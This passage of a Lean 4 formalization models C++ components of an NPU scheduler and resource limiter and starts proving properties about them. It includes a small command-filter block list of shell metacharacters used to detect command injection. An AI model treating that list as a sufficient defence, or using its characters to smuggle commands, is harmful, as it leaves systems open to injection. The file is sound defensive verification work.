  let digits := r.2.takeWhile isdigit
  let v : Int := digitsValue digits
  if r.1 then (if -v < LONG_MIN then LONG_MIN else -v)
  else (if v > LONG_MAX then LONG_MAX else v)

/-- The exceptions of the standard library that the parsers can meet. -/
inductive Exception where
  | out_of_range
  | invalid_argument
deriving DecidableEq, Repr

/-- The result of a call that either returns or throws. -/
inductive Outcome (α : Type) where
  | returned (value : α)
  | thrown (e : Exception)
deriving DecidableEq, Repr

/-- The C++ function `std::stoul(str)` with a 64-bit `unsigned long`: it reads like `strtoul`
(white space, optional sign, digits, the rest ignored), throws
`invalid_argument` when there is no digit and `out_of_range` when the digits
exceed `ULONG_MAX`; a minus sign negates the value modulo `2 ^ 64`. -/
def stoul (str : List Char) : Outcome Nat :=
  let r := takeSign (str.dropWhile isspace)
  let digits := r.2.takeWhile isdigit
  if digits = [] then .thrown .invalid_argument
  else
    let v := digitsValue digits
    if v ≥ ULONG_MODULUS then .thrown .out_of_range
    else if r.1 then .returned ((ULONG_MODULUS - v) % ULONG_MODULUS)
    else .returned v

/-- The lines that successive calls `std::getline(file, line)` read from a file with
the given content, until a call fails: `acc` holds, reversed, the characters
of the line being read. A call that meets the end of the file before any
character fails. -/
def getlinesFrom : List Char → List Char → List (List Char)
  | [], acc => if acc = [] then [] else [acc.reverse]
  | c :: cs, acc =>
    if c = '\n' then acc.reverse :: getlinesFrom cs [] else getlinesFrom cs (c :: acc)

/-- The lines read by `while (getline(file, line))` from a file with the given content. -/
def getlines (content : List Char) : List (List Char) := getlinesFrom content []

/-- Whether `s` begins with `p`: the test `s.rfind(p, 0) != npos`. -/
def startsWith : List Char → List Char → Bool
  | _, [] => true
  | [], _ :: _ => false
  | c :: s, d :: p => c = d && startsWith s p

/-- The method `s.find_first_of(chars)`: the first position of `s` that holds one of `chars`,
`none` for `npos`. -/
def find_first_of (chars : List Char) : List Char → Option Nat
  | [] => none
  | c :: s => if c ∈ chars then some 0 else (find_first_of chars s).map (· + 1)

end CLib

/-! ## `PidManager` (`pid_manager.cpp`) -/

namespace PidManager

open CLib NpuTimesliceScheduler

def INVALID_PID : Int := -1

def INT_MAX : Int := 2147483647

/-- The member `pidsMap_`, an `unordered_map<int, int>`, as a list of entries with
distinct keys. -/
structure PidsMap where
  entries : List (Int × Int)
deriving DecidableEq, Repr

/-- The empty map, the state after `pidsMap_.clear()`. -/
def PidsMap.clear (_ : PidsMap) : PidsMap := { entries := [] }

/-- The assignment `pidsMap_[key] = value`. -/
def PidsMap.assign (m : PidsMap) (key value : Int) : PidsMap :=
  { entries := (key, value) :: m.entries.filter (fun e => e.1 ≠ key) }

/-- The lookup `pidsMap_.find(key)`: the mapped value, `none` for `end()`. -/
def PidsMap.find (m : PidsMap) (key : Int) : Option Int := m.entries.lookup key

def valueWidth : Nat := 11

def shift : Nat := valueWidth + 1

def length : Nat := shift * 2 - 1

/-- The body of the `while (getline(file, line))` loop of `Refresh`. -/
def refreshLine (pidsMap : PidsMap) (line : List Char) : PidsMap :=
  if line.length ≠ length then pidsMap
  else
    let firstValue := strtol line
    if firstValue ≤ 0 ∨ firstValue > INT_MAX then pidsMap
    else
      let secondValue := strtol (line.drop shift)
      if secondValue ≤ 0 ∨ secondValue > INT_MAX then pidsMap
      else pidsMap.assign firstValue secondValue

/-- The method `Refresh()`: the return code and `pidsMap_` after the call. `file` is the
content of `pids.config`, `none` when the file cannot be opened. -/
def Refresh (file : Option (List Char)) (pidsMap : PidsMap) : Int × PidsMap :=
  match file with
  | none => (RET_FAIL, pidsMap)
  | some content => (RET_SUCC, (getlines content).foldl refreshLine pidsMap.clear)

/-- The method `GetContainerPid(hostPid)`. -/
def GetContainerPid (pidsMap : PidsMap) (hostPid : Int) : Int :=
  match pidsMap.find hostPid with
  | none => INVALID_PID
  | some containerPid => containerPid

/-- The pair of a well-formed line of `pids.config` in the words of the spec (not
taken from the code): the line is 23 characters wide and the decimal values
read at its start (host pid) and after the delimiter, at offset 12 (container
pid), are both in `[1, INT_MAX]`; `none` for every other line. -/
def specPidsLinePair (line : List Char) : Option (Int × Int) :=
  if line.length = 23 ∧ 1 ≤ strtol line ∧ strtol line ≤ INT_MAX ∧
      1 ≤ strtol (line.drop 12) ∧ strtol (line.drop 12) ≤ INT_MAX then
    some (strtol line, strtol (line.drop 12))
  else none

/-- A file with a short line, a negative host pid and a container pid above
`INT_MAX` around two well-formed lines. -/
def mixedContent : List Char :=
  ("short\n" ++ "        100         200\n" ++ "         -5           7\n" ++
    "          8  2147483648\n" ++ "        300         400\n").toList

end PidManager

/-! ## `xpu::IsDangerousCommand` (`register.cpp`) -/

namespace xpu

open CLib

/-- The local `blacklist` of `IsDangerousCommand`. -/
def blacklist : List Char := "!;&$><!\n\\*?\x7b\x7d()".toList

/-- The function `IsDangerousCommand(command)`. -/
def IsDangerousCommand (command : List Char) : Bool :=
  match find_first_of blacklist command with
  | some _ => true
  | none => false

end xpu

/-! ## `ResourceConfig` (`resource_config.cpp`) -/

namespace ResourceConfig

open CLib NpuTimesliceScheduler

def MEGABYTE : Nat := 1024 * 1024

def PERCENT_MAX : Nat := 100

def UINT_MAX : Nat := 4294967295

/-- The members `memory_`, `computingPower_`, `limitMemory_` and
`limitComputingPower_`. -/
structure Config where
  memory : Nat
  computingPower : Nat
  limitMemory : Bool
  limitComputingPower : Bool
deriving DecidableEq, Repr

/-- The members as the class declares them. -/
def Config.initial : Config :=
  { memory := 0, computingPower := 0, limitMemory := false, limitComputingPower := false }

/-- The method `ParseLineByConfigName(line, configName, value, maxValue)`: `some v` when it
returns `RET_SUCC` with `value = v`, `none` when it returns `RET_FAIL`; `substr` throws
`out_of_range` when the line ends right after `configName`, and `stoul` may throw. -/
def ParseLineByConfigName (line configName : List Char) (maxValue : Nat) :
    Outcome (Option Nat) :=
  if !startsWith line configName then .returned none
  else if configName.length + 1 > line.length then .thrown .out_of_range
  else
    match stoul (line.drop (configName.length + 1)) with
    | .thrown e => .thrown e
    | .returned value => if value > maxValue then .returned none else .returned (some value)

/-- The method `LoadVxpuConfig()`: what the call does (returns a code or throws) and the members
after it. `file` is the content of the config file, `none` when it cannot be
opened. -/
def LoadVxpuConfig (file : Option (List Char)) (cfg : Config) : Outcome Int × Config :=
  match file with
  | none => (.returned RET_FAIL, cfg)
  | some content =>
    match getlines content with
    | [] => (.returned RET_FAIL, cfg)
    | line1 :: rest =>
      match ParseLineByConfigName line1 "UsedMem".toList UINT_MAX with
      | .thrown e => (.thrown e, cfg)
      | .returned none => (.returned RET_FAIL, cfg)
      | .returned (some memoryValue) =>
        let cfg1 : Config :=
          { cfg with memory := (memoryValue * MEGABYTE) % ULONG_MODULUS, limitMemory := true }
        match rest with
        | [] => (.returned RET_FAIL, cfg1)
        | line2 :: _ =>
          match ParseLineByConfigName line2 "UsedCores".toList PERCENT_MAX with
          | .thrown e => (.thrown e, cfg1)
          | .returned none => (.returned RET_FAIL, cfg1)
          | .returned (some coresValue) =>
            let computingPower := coresValue % 2 ^ 32
            (.returned RET_SUCC,
              { cfg1 with computingPower := computingPower,
                          limitComputingPower := decide (computingPower ≠ 0) })

end ResourceConfig

/-! ## The destructor of `FileLock` (`file_lock.cpp`) -/

/-- The system calls that release a lock file: `flock(fd, LOCK_UN)` and `close(fd)`. -/
inductive SysCall where
  | flock_un (fd : Int)
  | close (fd : Int)
deriving DecidableEq, Repr

namespace FileLock

/-- The method `Release()` when `flock(fd_, LOCK_UN)` returns `flockResult`: the returned flag
and the lock object after the call. -/
def Release (l : FileLock) (flockResult : Int) : Bool × FileLock :=
  if flockResult ≠ 0 then (false, l) else (true, { l with held := false })

/-- The destructor `~FileLock()`: the system calls it makes, in order. Nothing
is called for `fd_ < 0`; otherwise `Release()`, which calls `flock(fd_, LOCK_UN)`,
is called when `held_` is set, then `close(fd_)`. The results of the two calls
are not used. -/
def destroy (l : FileLock) : List SysCall :=
  if l.fd < 0 then []
  else (if l.held then [SysCall.flock_un l.fd] else []) ++ [SysCall.close l.fd]

end FileLock

namespace MemoryLimiter

/-- The local `lock` of `GuardedMemoryCheck` after `std::move(lock)` has built the
guard; its destructor runs when the function returns. -/
def GuardedMemoryCheck.movedFrom (env : Env) : FileLock :=
  (FileLock.create env.lockOpen env.lockFlock).moveFrom.2

/-- The system calls on the lock file from the return of `GuardedMemoryCheck`
to the end of the guard's life: the destructor of the moved-from local, then
(when the guard is dropped) the destructor of `guard.lock`. -/
def guardLifetime (env : Env) (requested : Nat) : List SysCall :=
  (GuardedMemoryCheck.movedFrom env).destroy ++ (GuardedMemoryCheck env requested).lock.destroy

end MemoryLimiter

/-! ## `Sem` (`sem.h`) -/

/-- The member `count_` of a `Sem`. The count and the arguments of the methods
are `int` in C++, and the limiter passes `size_t` values for them; all are `Int`
here, which is exact for counts inside the range of `int`. -/
structure Sem where
  count : Int
deriving DecidableEq, Repr

namespace Sem

/-- The method `Release(count)`. -/
def Release (s : Sem) (count : Int) : Sem := { count := s.count + count }

/-- The method `Aquire(count)`, run with no other thread: the wait on
`count_ >= count` ends at once or, nobody being there to release, never;
`none` is the wait that never ends. -/
def Aquire (s : Sem) (count : Int) : Option Sem :=
  if s.count ≥ count then some { count := s.count - count } else none

/-- The method `AquireAll()`: the permits taken and the semaphore after the call. -/
def AquireAll (s : Sem) : Int × Sem := (s.count, { count := 0 })

end Sem

/-! ## `StreamCache` (`stream_cache.h`) -/

/-- The members `max_`, `current_` and `streams_` of a `StreamCache`; a context
or stream handle is a number. -/
structure StreamCache where
  max : Nat
  current : Nat
  streams : List (Nat × Nat)
deriving DecidableEq, Repr

namespace StreamCache

/-- The reads `streams_[0]`, ..., `streams_[n - 1]` of the loop of `Clear`, in
order; `none` when one of them is outside the vector. -/
def readEntries (streams : List (Nat × Nat)) : Nat → Option (List (Nat × Nat))
  | 0 => some []
  | n + 1 => (readEntries streams n).bind (fun es => (streams[n]?).map (fun e => es ++ [e]))

/-- The method `Clear()`: the entries `streams_[i]`, `i < current_`, that the loop reads
(each is handed to `rtCtxSetCurrent` and, if that succeeds, to
`rtStreamSynchronize`; a failure is logged and the loop goes on), and the cache
with `current_ = 0`. `none` when the loop reads outside the vector. -/
def Clear (sc : StreamCache) : Option (List (Nat × Nat) × StreamCache) :=
  (readEntries sc.streams sc.current).map (fun es => (es, { sc with current := 0 }))

/-- The call `streams_.resize(size, {0, 0})`. -/
def resize (streams : List (Nat × Nat)) (size : Nat) : List (Nat × Nat) :=
  streams.take size ++ List.replicate (size - streams.length) (0, 0)

/-- The method `SetSize(size)`. -/
def SetSize (sc : StreamCache) (size : Nat) : Option StreamCache :=
  sc.Clear.map
    (fun r => { max := size, current := r.2.current, streams := resize r.2.streams size })

/-- The method `ConcurrentPush(ctx, stream)` run by one thread: the returned flag and the cache
after the call. The cursor is incremented (as a `size_t`) before the test
against `max_`. `none` when `streams_[idx]` is outside the vector. -/
def ConcurrentPush (sc : StreamCache) (ctx stream : Nat) : Option (Bool × StreamCache) :=
  let idx := sc.current
  let sc1 : StreamCache := { sc with current := (sc.current + 1) % MemoryLimiter.SIZE_MODULUS }
  if idx ≥ sc.max then some (false, sc1)
  else if idx < sc.streams.length then
    some (true, { sc1 with streams := sc.streams.set idx (ctx, stream) })
  else none

/-- Successive `ConcurrentPush` calls: the returned flags and the cache after the last call. -/
def pushAll : List (Nat × Nat) → StreamCache → Option (List Bool × StreamCache)
  | [], sc => some ([], sc)
  | (ctx, stream) :: rest, sc =>
    (sc.ConcurrentPush ctx stream).bind
      (fun r => (pushAll rest r.2).map (fun q => (r.1 :: q.1, q.2)))

/-- A cache as the class constructs it (`current_ = 0`, no entries; `max_` has no
initialiser and is taken as `0`). -/
def initial : StreamCache := { max := 0, current := 0, streams := [] }

end StreamCache

/-! ## `NpuCoreLimiter` (`npu_core_limiter.cpp`) -/

/-- The members of a `NpuCoreLimiter` that the guards and the watcher use:
the configuration `config_`, the semaphores `semaphore_` and `semaphoreBack_`,
the stream cache `streams_`, the flag `watcherStarted_` and whether `watcher_`
holds a thread. -/
structure NpuCoreLimiter where
  config : ResourceConfig.Config
  semaphore : Sem
  semaphoreBack : Sem
  streams : StreamCache
  watcherStarted : Bool
  watcher : Bool
deriving DecidableEq, Repr

namespace NpuCoreLimiter

open NpuTimesliceScheduler

/-- The constructor of `RequestGuard`. Its calls `Acquire()` and (in
`ReleaseGuard`) `AcquireAll()` name the methods that `sem.h` spells `Aquire` and
`AquireAll`. `none` when the constructor does not return. -/
def RequestGuard.create (l : NpuCoreLimiter) (ctx stream : Nat) : Option NpuCoreLimiter :=
  match l.semaphore.Aquire 1 with
  | none => none
  | some s =>
    (l.streams.ConcurrentPush ctx stream).map
      (fun r => { l with semaphore := s, streams := r.2 })

/-- The destructor of `RequestGuard`. -/
def RequestGuard.destroy (l : NpuCoreLimiter) : NpuCoreLimiter :=
  { l with semaphore := l.semaphore.Release 1 }

/-- The constructor of `ReleaseGuard`. -/
def ReleaseGuard.create (l : NpuCoreLimiter) (opCount : Int) : NpuCoreLimiter :=
  { l with semaphoreBack := l.semaphoreBack.Release opCount }

/-- The destructor of `ReleaseGuard`: the value stored in `opCount_`, the
entries that `Clear` reads and the limiter after the call. `none` when the
destructor does not return. -/
def ReleaseGuard.destroy (l : NpuCoreLimiter) :
    Option (Int × List (Nat × Nat) × NpuCoreLimiter) :=
  let r := l.semaphore.AquireAll
  let opCount := r.1
  match l.semaphoreBack.Aquire opCount with
  | none => none
  | some back =>
    l.streams.Clear.map
      (fun c => (opCount, c.1, { l with semaphore := r.2, semaphoreBack := back, streams := c.2 }))

/-- The method `ReleaseOps(opCount)`. -/
def ReleaseOps (l : NpuCoreLimiter) (opCount : Int) : NpuCoreLimiter :=
  ReleaseGuard.create l opCount

/-- The method `ComputingPowerLimiter(stream)`; `ctx` is what `rtCtxGetCurrent` stores. -/
def ComputingPowerLimiter (l : NpuCoreLimiter) (ctx stream : Nat) : Option NpuCoreLimiter :=
  RequestGuard.create l ctx stream

/-- The method `ComputingPowerWatcherInit()`; `threadCreated` tells whether the `std::thread`
constructor succeeds (it throws `std::system_error` otherwise). -/
def ComputingPowerWatcherInit (l : NpuCoreLimiter) (threadCreated : Bool) :
    Int × NpuCoreLimiter :=
  if !l.config.limitComputingPower then (RET_SUCC, l)
  else if l.watcherStarted then (RET_SUCC, l)
  else
    let l1 := { l with watcherStarted := true }
    if threadCreated then (RET_SUCC, { l1 with watcher := true }) else (RET_FAIL, l1)

/-- What the application threads do inside the scope of a `ReleaseGuard`:
a launch hook takes its `RequestGuard`, or a guard taken earlier is dropped. -/
inductive GuardEvent where
  | request (ctx stream : Nat)
  | drop
deriving DecidableEq, Repr

/-- The limiter after the given guard events, in order. -/
def runGuards : List GuardEvent → NpuCoreLimiter → Option NpuCoreLimiter
  | [], l => some l
  | GuardEvent.request ctx stream :: rest, l =>
    (RequestGuard.create l ctx stream).bind (runGuards rest)
  | GuardEvent.drop :: rest, l => runGuards rest (RequestGuard.destroy l)

/-- One pairing: the scheduler opens a `ReleaseGuard` with `opCount`, the
application threads go through `events`, the `ReleaseGuard` is destroyed. -/
def pairing (l : NpuCoreLimiter) (opCount : Int) (events : List GuardEvent) :
    Option (Int × List (Nat × Nat) × NpuCoreLimiter) :=
  (runGuards events (ReleaseOps l opCount)).bind ReleaseGuard.destroy

/-- A limiter before any guard is taken: the given configuration, both
semaphores at the count 0 of `Sem`'s constructor, no watcher, and the stream
cache after `SetSize(capacity)`. -/
def initial (config : ResourceConfig.Config) (capacity : Nat) : NpuCoreLimiter :=
  { config := config, semaphore := { count := 0 }, semaphoreBack := { count := 0 },
    streams := { max := capacity, current := 0, streams := List.replicate capacity (0, 0) },
    watcherStarted := false, watcher := false }

end NpuCoreLimiter

namespace ResourceConfig

open CLib NpuTimesliceScheduler

/-- The method `Initialize()`: without a config file the client runs on the host and the
members keep their initial values. -/
def Initialize (configExists : Bool) (file : Option (List Char)) (cfg : Config) :
    Outcome Int × Config :=
  if !configExists then (.returned RET_SUCC, cfg) else LoadVxpuConfig file cfg

end ResourceConfig

namespace Hooks

/-- The launch hook `rtKernelLaunch` (the other launch hooks of `runtime_hooks.cpp`
have the same body): the guard is taken, `original` is called, the guard is
dropped on return. `none` when the hook does not return. -/
def rtKernelLaunch {R σ : Type} (l : NpuCoreLimiter) (ctx stm : Nat) (original : σ → R × σ)
    (s : σ) : Option ((R × σ) × NpuCoreLimiter) :=
  (l.ComputingPowerLimiter ctx stm).map
    (fun l1 => (original s, NpuCoreLimiter.RequestGuard.destroy l1))

end Hooks

/-! ## Concrete limiters -/

namespace NpuCoreLimiter

/-- The configuration loaded from `UsedMem:1024` and `UsedCores:50`. -/
def limitedConfig : ResourceConfig.Config :=
  { memory := 1073741824, computingPower := 50, limitMemory := true,
    limitComputingPower := true }

/-- The limiter of a container limited to 50 percent before any guard is
taken, with a stream cache of ten entries (the batch size of the scheduler). -/
def freshLimiter : NpuCoreLimiter := initial limitedConfig 10

/-- The limiter of a process without a config file, before any guard is taken:
the configuration keeps its initial values, so compute limiting is off. -/
def hostLimiter : NpuCoreLimiter := initial ResourceConfig.Config.initial 10

end NpuCoreLimiter

/-! ## The slice loop (`ExecuteTimeslice`, `ExecuteIdleTime`, `SchedulerThread`) -/

namespace NpuTimesliceScheduler

/-- The per-process fields of the slice loop: `currentSlice_`, `quota_`,
`lastUsedUnits_` and `lastUsedUnitsValid_`. -/
structure SliceFields where
  currentSlice : Int
  quota : Int
  lastUsedUnits : Nat
  lastUsedUnitsValid : Bool
deriving DecidableEq, Repr

/-- The fields of a scheduler object before its thread runs (`lastUsedUnits_ = 0`,
`lastUsedUnitsValid_ = false`; the two durations are assigned by `SchedulerThread`
before they are read). -/
def SliceFields.initial : SliceFields :=
  { currentSlice := 0, quota := 0, lastUsedUnits := 0, lastUsedUnitsValid := false }

/-- The method `IsValid()`. -/
def IsValid (p : Proc) : Bool := p.attached

/-- The method `TimeUnit()`. -/
def TimeUnit (ctx : Context) : Int := ctx.timeUnit

/-- The local constant `opBatchSize` of `ExecuteTimeslice`. -/
def opBatchSize : Nat := 10

/-- The loop `while (end - begin < currentSlice_) { ... }` of `ExecuteTimeslice`,
run with no other thread. `stop` is the local `end`, `k` the number of readings of
`Clock::now()` taken so far, `clk k` the `k`-th reading. Each iteration opens a
`ReleaseGuard` with `opBatchSize`, destroys it at the end of the block and
reads the clock in `UpdateTimestamp`. The result is the returned `end`, the
number of clock readings, the region and the limiter; `none` when the loop has
not ended after `fuel` iterations or a call in it does not return. -/
def executeLoop (idx : Int) (clk : Nat → Int) (begin currentSlice : Int) :
    Nat → Nat → Int → Context → NpuCoreLimiter →
      Option (Int × Nat × Context × NpuCoreLimiter)
  | 0, _, _, _, _ => none
  | fuel + 1, k, stop, ctx, l =>
    if stop - begin < currentSlice then
      match NpuCoreLimiter.ReleaseGuard.destroy (l.ReleaseOps opBatchSize) with
      | none => none
      | some g =>
        match UpdateTimestamp idx (clk k) ctx with
        | none => none
        | some u => executeLoop idx clk begin currentSlice fuel (k + 1) u.1 u.2 g.2.2
    else some (stop, k, ctx, l)

/-- The method `ExecuteTimeslice(begin)`. -/
def ExecuteTimeslice (fuel : Nat) (idx : Int) (clk : Nat → Int) (currentSlice : Int)
    (begin : Int) (k : Nat) (ctx : Context) (l : NpuCoreLimiter) :
    Option (Int × Nat × Context × NpuCoreLimiter) :=
  executeLoop idx clk begin currentSlice fuel k begin ctx l

/-- The method `ExecuteIdleTime()`: the duration handed to `sleep_for` (`none` when the call
does not sleep), the fields and the region after the call. `usedUnits`,
`quotaPercent_` and `lastUsedUnits_` are `unsigned int`: the sum and the
difference are taken modulo `2 ^ 32`. The duration is computed in the signed
64-bit count of `clock::duration`, with the division of C++, which truncates.
`none` when the division is by zero. -/
def ExecuteIdleTime (quotaPercent : Nat) (f : SliceFields) (ctx : Context) :
    Option (Option Int × SliceFields × Context) :=
  let ctx1 : Context :=
    { ctx with usedUnits := (ctx.usedUnits + quotaPercent) % Hooks.UINT_MODULUS }
  if !f.lastUsedUnitsValid then
    some (none, { f with lastUsedUnits := ctx1.usedUnits, lastUsedUnitsValid := true }, ctx1)
  else
    let periodUsedUnits :=
      (ctx1.usedUnits + Hooks.UINT_MODULUS - f.lastUsedUnits % Hooks.UINT_MODULUS)
        % Hooks.UINT_MODULUS
    if periodUsedUnits ≥ PERIOD_UNIT_NUMBER then some (none, f, ctx1)
    else
      let periodIdleUnits := PERIOD_UNIT_NUMBER - periodUsedUnits
      if periodUsedUnits = 0 then none
      else
        let timeSliceIdleUnits :=
          Int.tdiv (TimeUnit ctx1 * (periodIdleUnits : Int) * (quotaPercent : Int))
            (periodUsedUnits : Int)
        some (some timeSliceIdleUnits, { f with lastUsedUnits := ctx1.usedUnits }, ctx1)

/-- Successive calls of `ExecuteIdleTime` by one node; before each call the
sibling nodes have added the listed number of units to `usedUnits`. The result
lists the sleeps; `none` when a call divides by zero. -/
def idlePeriods (quotaPercent : Nat) :
    List Nat → SliceFields → Context → Option (List (Option Int) × SliceFields × Context)
  | [], f, ctx => some ([], f, ctx)
  | added :: rest, f, ctx =>
    let ctx1 : Context := { ctx with usedUnits := (ctx.usedUnits + added) % Hooks.UINT_MODULUS }
    (ExecuteIdleTime quotaPercent f ctx1).bind
      (fun r => (idlePeriods quotaPercent rest r.2.1 r.2.2).map
        (fun q => (r.1 :: q.1, q.2)))

/-- What the scheduler thread does, in order: the result of a `CheckCurrent`
call, a slice from `begin` to the returned `end`, an `ExecuteIdleTime` call with
its sleep, a `ReleaseCurrent` call. -/
inductive Event where
  | checkCurrent (result : Bool)
  | executeTimeslice (begin stop : Int)
  | executeIdleTime (sleep : Option Int)
  | releaseCurrent
deriving DecidableEq, Repr

/-- The state that `SchedulerThread` works on: the fields of the scheduler
object, the shared region, the limiter, the number of readings taken of the
clock and of the flag `terminating`, and the events so far. -/
structure Thread where
  fields : SliceFields
  ctx : Context
  limiter : NpuCoreLimiter
  clockReads : Nat
  flagReads : Nat
  events : List Event
deriving DecidableEq, Repr

/-- The statements `auto end = ExecuteTimeslice(begin); auto overdraft = end - begin -
currentSlice_; currentSlice_ = quota_ - overdraft;` of `SchedulerThread`: the overdraft and
the state after them. -/
def executeAndAccount (fuel : Nat) (idx : Int) (clk : Nat → Int) (begin : Int) (t : Thread) :
    Option (Int × Thread) :=
  (ExecuteTimeslice fuel idx clk t.fields.currentSlice begin t.clockReads t.ctx t.limiter).map
    (fun r =>
      let stop := r.1
      let overdraft := stop - begin - t.fields.currentSlice
      (overdraft,
        { t with fields := { t.fields with currentSlice := t.fields.quota - overdraft },
                 ctx := r.2.2.1, limiter := r.2.2.2, clockReads := r.2.1,
                 events := t.events ++ [Event.executeTimeslice begin stop] }))

/-- The statements of `SchedulerThread` from `auto end = ExecuteTimeslice(begin);` to
`ReleaseCurrent();`. -/
def runSlice (fuel : Nat) (p : Proc) (clk : Nat → Int) (begin : Int) (t : Thread) :
    Option Thread :=
  match executeAndAccount fuel p.idx clk begin t with
  | none => none
  | some a =>
    match ExecuteIdleTime p.quotaPercent a.2.fields a.2.ctx with
    | none => none
    | some r =>
      match ReleaseCurrent p.idx r.2.2 with
      | none => none
      | some c =>
        some { a.2 with fields := r.2.1, ctx := c,
                        events := a.2.events ++ [Event.executeIdleTime r.1, Event.releaseCurrent] }

/-- The loop `while (!terminating) { auto begin = UpdateTimestamp(); if (!CheckCurrent())
{ yield(); } yield(); continue; }` of `SchedulerThread`, as its braces delimit it with
`UNIT_TEST` not defined: the brace that follows the first `yield()` closes the
`if`, so every iteration ends in `continue` and the loop is left only through
its condition. `terminating k` is the `k`-th reading of the flag. The result
carries the `begin` of the last iteration (`none` when there was none). -/
def waitLoop (idx : Int) (clk : Nat → Int) (terminating : Nat → Bool) :
    Nat → Option Int → Thread → Option (Option Int × Thread)
  | 0, _, _ => none
  | fuel + 1, begin, t =>
    if terminating t.flagReads then some (begin, { t with flagReads := t.flagReads + 1 })
    else
      match UpdateTimestamp idx (clk t.clockReads) t.ctx with
      | none => none
      | some u =>
        match CheckCurrent idx u.2 with
        | none => none
        | some r =>
          waitLoop idx clk terminating fuel (some u.1)
            { t with ctx := r.2, clockReads := t.clockReads + 1, flagReads := t.flagReads + 1,
                     events := t.events ++ [Event.checkCurrent r.1] }

/-- The method `SchedulerThread(terminating)` with `UNIT_TEST` not defined, as its braces
delimit it: the loop `while (IsValid())` has no closing brace before
`quota_ = ...`, so it encloses the rest of the body, and the statements from
`auto end = ExecuteTimeslice(begin);` on follow the inner loop instead of being
part of it. There `begin` names the variable that the inner loop declares; it
is read as the value of its last iteration, and the call is undefined (`none`)
when the inner loop made no iteration. `none` also when the thread has not
returned after `fuel` passes of a loop. -/
def SchedulerThread (p : Proc) (clk : Nat → Int) (terminating : Nat → Bool) :
    Nat → Thread → Option Thread
  | 0, _ => none
  | fuel + 1, t =>
    if !IsValid p then some t
    else if terminating t.flagReads then some { t with flagReads := t.flagReads + 1 }
    else
      let quota := TimeUnit t.ctx * (p.quotaPercent : Int)
      let t1 : Thread :=
        { t with flagReads := t.flagReads + 1,
                 fields := { t.fields with quota := quota, currentSlice := quota } }
      match waitLoop p.idx clk terminating fuel none t1 with
      | none => none
      | some (none, _) => none
      | some (some begin, t2) =>
        match runSlice fuel p clk begin t2 with
        | none => none
        | some t3 => SchedulerThread p clk terminating fuel t3

end NpuTimesliceScheduler

/-! ## Concrete scheduler threads -/

namespace NpuTimesliceScheduler

/-- The scheduler object of node 0 with a quota of 50 percent, attached. -/
def halfProc : Proc := { idx := 0, attached := true, quotaPercent := 50 }

/-- A thread that starts on the given region, with the limiter `freshLimiter`. -/
def threadOn (ctx : Context) : Thread :=
  { fields := SliceFields.initial, ctx := ctx, limiter := NpuCoreLimiter.freshLimiter,
    clockReads := 0, flagReads := 0, events := [] }

/-- A thread of node 0 about to run a slice of 50 ms (`quota_ = currentSlice_ = 50 ms`)
on `holderInput`. -/
def sliceThread : Thread :=
  { threadOn holderInput with
    fields := { SliceFields.initial with currentSlice := 50000000, quota := 50000000 } }

/-- A clock whose first `n` readings are 5 s and the later ones 5.06 s. -/
def sliceClock (n k : Nat) : Int := if k < n then 5000000000 else 5060000000

/-- A clock that reads 5.15 s: the first reading after a slice begun at 5 s comes
150 ms later (the thread was not scheduled in between). -/
def overrunClock (_ : Nat) : Int := 5150000000

/-- The flag `terminating` reads false `n` times, then true. -/
def stopAfter (n k : Nat) : Bool := decide (n ≤ k)

/-- A region as `ftruncate` leaves a newly created shared file: all bytes zero. -/
def zeroRegion : Context :=
  { magicNumber := 0, timeUnit := 0, usedUnits := 0, current := 0,
    nodes := List.replicate 20 0 }

/-- The fields of a node whose mark `lastUsedUnits_` is set to the given value. -/
def markedFields (lastUsedUnits : Nat) : SliceFields :=
  { currentSlice := 50000000, quota := 50000000, lastUsedUnits := lastUsedUnits,
    lastUsedUnitsValid := true }

/-- A ready region on which the given number of units has been used. -/
def usedRegion (usedUnits : Nat) : Context :=
  { readyRegion 0 (List.replicate 20 0) with usedUnits := usedUnits }

end NpuTimesliceScheduler

/-! # Theorems -/

namespace NpuTimesliceScheduler

/-! ## Basic facts -/

theorem MAX_NODE_NUMBER_eq : MAX_NODE_NUMBER = 20 := rfl

/-- The literal of `MAGIC_NUMBER_INIT` is the character expression of the header. -/
theorem MAGIC_NUMBER_INIT_chars : MAGIC_NUMBER_INIT =
    (('i'.toNat <<< 24) ||| ('n'.toNat <<< 16) ||| ('i'.toNat <<< 8) ||| 't'.toNat) := by
  decide

/-- The literal of `MAGIC_NUMBER` is the character expression of the header. -/
theorem MAGIC_NUMBER_chars : MAGIC_NUMBER =
    (('v'.toNat <<< 24) ||| ('N'.toNat <<< 16) ||| ('P'.toNat <<< 8) ||| 'U'.toNat) := by
  decide

/-- In a well-formed region every index in `[0, MAX_NODE_NUMBER)` reads a slot. -/
theorem Context.node_eq_some (ctx : Context) (hwf : ctx.WellFormed) (i : Int)
    (h0 : 0 ≤ i) (h1 : i < MAX_NODE_NUMBER) : ∃ t, ctx.node i = some t := by
  have hlt : i.toNat < ctx.nodes.length := by
    rw [hwf]; omega
  exact ⟨ctx.nodes[i.toNat], by simp [Context.node, h0, h1, List.getElem?_eq_getElem hlt]⟩

/-- A successful slot read is at an index in `[0, MAX_NODE_NUMBER)`. -/
theorem Context.node_range (ctx : Context) (i t : Int) (h : ctx.node i = some t) :
    0 ≤ i ∧ i < MAX_NODE_NUMBER := by
  unfold Context.node at h
  split at h
  · assumption
  · exact absurd h (by simp)

/-! ## `ReleaseCurrent` -/

/-- Whenever the caller holds the role, `ReleaseCurrent` leaves the region as it
was: the scan starts at `i = 0`, so its first candidate is the caller's own
slot, whose heartbeat is `now`, and the exchange `idx → idx` succeeds. -/
theorem ReleaseCurrent_of_holder (ctx : Context) (idx : Int) (hwf : ctx.WellFormed)
    (h0 : 0 ≤ idx) (h1 : idx < MAX_NODE_NUMBER) (hcur : ctx.current = idx) :
    ReleaseCurrent idx ctx = some ctx := by
  obtain ⟨now, hnow⟩ := ctx.node_eq_some hwf idx h0 h1
  have hmod : Int.tmod (idx + ((0 : Nat) : Int)) (MAX_NODE_NUMBER : Int) = idx := by
    rw [MAX_NODE_NUMBER_eq] at h1 ⊢
    simp
    exact Int.tmod_eq_of_lt h0 h1
  have hT : ¬ (now - now > PERIOD_TIMEOUT) := by
    have : (0 : Int) ≤ PERIOD_TIMEOUT := by decide
    omega
  unfold ReleaseCurrent
  rw [hnow]
  simp only
  rw [show MAX_NODE_NUMBER = 19 + 1 from rfl]
  unfold releaseLoop
  simp only [hmod, hnow, hT, if_false, compare_exchange_strong, hcur, if_true]
  cases ctx
  simp_all

/-- Claim C1, evaluated on the code: node 0 holds the role, slot 1 has a heartbeat
